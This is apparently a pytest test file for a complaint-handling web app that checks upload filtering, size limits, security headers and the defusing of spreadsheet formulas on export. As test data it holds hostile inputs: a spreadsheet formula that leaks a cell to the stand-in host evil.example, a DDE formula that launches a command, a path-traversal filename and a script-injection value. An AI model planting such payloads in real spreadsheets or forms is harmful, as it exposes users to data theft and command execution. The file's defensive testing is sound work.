"""Hostile input: uploads judged by content, served as attachments; size limits on every field
and on the request itself; security headers; spreadsheet formulas exported as text."""

from __future__ import annotations

import io

import pytest

from helpers import complaint_body, login, run
from kesu.complaint import evidence as evidence_service
from kesu.privacy import crypto

JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\x00" * 200
HTML = b"<!doctype html><html><body><script>fetch('/api/v1/me')</script></body></html>"


@pytest.fixture
def cid(client, org):
    headers = login(client, "receiver1")
    return client.post("/api/v1/complaints", json=complaint_body(org), headers=headers).json()["id"]


def test_an_html_file_renamed_jpg_is_refused(client, cid):
    r = client.post(
        f"/api/v1/complaints/{cid}/evidence",
        files={"file": ("photo.jpg", HTML, "image/jpeg")},
        headers=login(client, "receiver1"),
    )
    assert r.status_code == 422
    assert r.json()["error"]["key"] == "invalid.file_type" and r.json()["error"]["field"] == "file"


def test_evidence_is_stored_under_its_digest_and_served_only_as_an_attachment(
    client, cid, settings
):
    headers = login(client, "receiver1")
    r = client.post(
        f"/api/v1/complaints/{cid}/evidence",
        files={"file": ("../../etc/passwd.jpg", JPEG, "text/html")},
        headers=headers,
    )
    assert r.status_code == 201, r.text
    row = r.json()
    assert row["filename"] == "passwd.jpg" and row["content_type"] == "image/jpeg"
    on_disk = evidence_service.blob_path(settings.evidence_dir, row["sha256"])
    assert on_disk.read_bytes() == JPEG and "passwd" not in str(on_disk)
    got = client.get(f"/api/v1/complaints/{cid}/evidence/{row['id']}", headers=headers)
    assert got.status_code == 200 and got.content == JPEG
    assert got.headers["content-type"] == "image/jpeg"
    assert got.headers["content-disposition"].startswith("attachment;")
    assert got.headers["x-content-type-options"] == "nosniff"


def test_the_same_file_sent_twice_is_on_record_once(client, cid):
    headers = login(client, "receiver1")
    sent = [
        client.post(
            f"/api/v1/complaints/{cid}/evidence",
            files={"file": ("photo.jpg", JPEG, "image/jpeg")},
            headers=headers,
        )
        for _ in range(2)
    ]
    assert [r.status_code for r in sent] == [201, 201]
    assert sent[0].json()["id"] == sent[1].json()["id"]
    detail = client.get(f"/api/v1/complaints/{cid}", headers=headers).json()
    assert len(detail["evidence"]) == 1
    assert [e["command"] for e in detail["timeline"]].count("attach_evidence") == 1


def test_an_upload_over_the_limit_is_refused(settings, clock, org):
    from fastapi.testclient import TestClient

    from kesu.web.app import create_app

    small = settings.model_copy(update={"max_upload_bytes": 1024})
    app = create_app(small, clock)
    try:
        with TestClient(app) as client:
            headers = login(client, "receiver1")
            cid = client.post(
                "/api/v1/complaints", json=complaint_body(org), headers=headers
            ).json()["id"]
            r = client.post(
                f"/api/v1/complaints/{cid}/evidence",
                files={"file": ("big.jpg", JPEG + b"\x00" * 2000, "image/jpeg")},
                headers=headers,
            )
            assert r.status_code == 422 and r.json()["error"]["key"] == "invalid.file_too_large"
            r = client.post(
                f"/api/v1/complaints/{cid}/evidence",
                files={"file": ("huge.jpg", JPEG + b"\x00" * 2 * 1024 * 1024, "image/jpeg")},
                headers=headers,
            )
            assert r.status_code == 413
            assert r.headers["x-frame-options"] == "DENY"  # the refusal is protected too
            assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
    finally:
        app.state.engine.dispose()


def test_a_request_body_over_a_megabyte_never_reaches_the_application(client, org):
    headers = {**login(client, "receiver1"), "Accept-Language": "en"}
    huge = b'{"title": "' + b"x" * (1024 * 1024 + 10) + b'"}'
    r = client.post(
        "/api/v1/complaints",
        content=huge,
        headers={**headers, "Content-Type": "application/json"},
    )
    assert r.status_code == 413 and "larger than 1 MB" in r.json()["error"]["message"]

    def chunks():  # no Content-Length: counted as it arrives
        for _ in range(20):
            yield b"x" * 100_000

    r = client.post(
        "/api/v1/complaints",
        content=chunks(),
        headers={**headers, "Content-Type": "application/json"},
    )
    assert r.status_code == 413


@pytest.mark.parametrize("body", [b"[]", b'"text"', b"42"])
def test_a_body_that_is_not_a_json_object_is_refused_saying_so(client, org, body):
    headers = {**login(client, "receiver1"), "Content-Type": "application/json"}
    r = client.post("/api/v1/complaints", content=body, headers=headers)
    assert r.status_code == 422
    assert r.json()["error"]["message"] == "body：必须是对象", r.text  # not "不符合规则（…_type）"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("title", "标" * 201),
        ("description", "述" * 4001),
        ("complainant", {"name": "名" * 101}),
        ("complainant", {"name": "林女士", "phone": "<script>alert(1)</script>"}),
        ("demands", ["repair"] * 11),
    ],
)
def test_every_field_has_a_limit_and_the_error_names_it(client, org, field, value):
    r = client.post(
        "/api/v1/complaints",
        json=complaint_body(org, **{field: value}),
        headers=login(client, "receiver1"),
    )
    assert r.status_code == 422
    assert r.json()["error"]["field"].startswith(f"body.{field}")


def test_a_command_payload_is_limited_too(client, cid):
    r = run(client, login(client, "receiver1"), cid, "note", {"text": "注" * 4001})
    assert r.status_code == 422 and r.json()["error"]["field"] == "payload.text"
    r = client.get("/api/v1/complaints?q=" + "q" * 101, headers=login(client, "receiver1"))
    assert r.status_code == 422


def test_every_response_carries_the_security_headers(client):
    for url in ("/api/v1/health", "/login", "/api/v1/me"):
        r = client.get(url)
        csp = r.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp
        assert "default-src 'self'" in csp and "object-src 'none'" in csp
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["referrer-policy"] == "same-origin"
        assert "strict-transport-security" not in r.headers


def test_production_adds_strict_transport_security(settings, clock, org):
    from fastapi.testclient import TestClient

    from kesu.web.app import create_app

    prod = settings.model_copy(
        update={"environment": "production", "secret_key": "s" * 40, "data_key": "d" * 40}
    )
    app = create_app(prod, clock)
    try:
        with TestClient(app) as client:
            r = client.get("/api/v1/health")
            assert r.headers["strict-transport-security"].startswith("max-age=31536000")
    finally:
        app.state.engine.dispose()
        crypto.configure(settings)  # the keys are process-wide: back to the suite's


def test_production_refuses_to_start_without_a_data_key():
    from pydantic import ValidationError

    from kesu.settings import Settings

    with pytest.raises(ValidationError, match="KESU_DATA_KEY"):
        Settings(environment="production", secret_key="s" * 40, _env_file=None)


def test_a_formula_in_a_complaint_exports_as_text(client, org, sessions, clock):
    """The case library export (issue 6) defuses formulas; the complainant's name is left out."""
    export = pytest.importorskip("kesu.caselib.export")
    from kesu.access import service as access_service
    from kesu.caselib import queries as caselib_queries
    from kesu.db.session import reading

    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")'
    name = "=cmd|' /C calc'!A0"
    body = complaint_body(org, title=formula, complainant={"name": name, "phone": "13800001111"})
    headers = login(client, "receiver1")
    cid = client.post("/api/v1/complaints", json=body, headers=headers).json()["id"]
    run(client, headers, cid, "classify", {"classification": "enquiry", "reason": "咨询"})
    assert run(client, login(client, "archivist"), cid, "close", {}).status_code == 200
    with reading(sessions) as s:
        director = access_service.by_username(s, "director")
        pack = access_service.pack_for_user(s, director)
        scope = caselib_queries.seen_by(s, director)
        csv_bytes, _, _ = export.export(
            s,
            scope,
            pack,
            [],
            caselib_queries.Filters(),
            fmt="csv",
            locale="zh_Hans",
            now=clock.now(),
        )
        xlsx_bytes, _, _ = export.export(
            s,
            scope,
            pack,
            [],
            caselib_queries.Filters(),
            fmt="xlsx",
            locale="zh_Hans",
            now=clock.now(),
        )
    text = csv_bytes.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
    assert "calc" not in text  # the complainant's name is personal data: not exported
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(xlsx_bytes))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    hits = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert hits and all(c.data_type == "s" and not c.value.startswith("=") for c in hits)
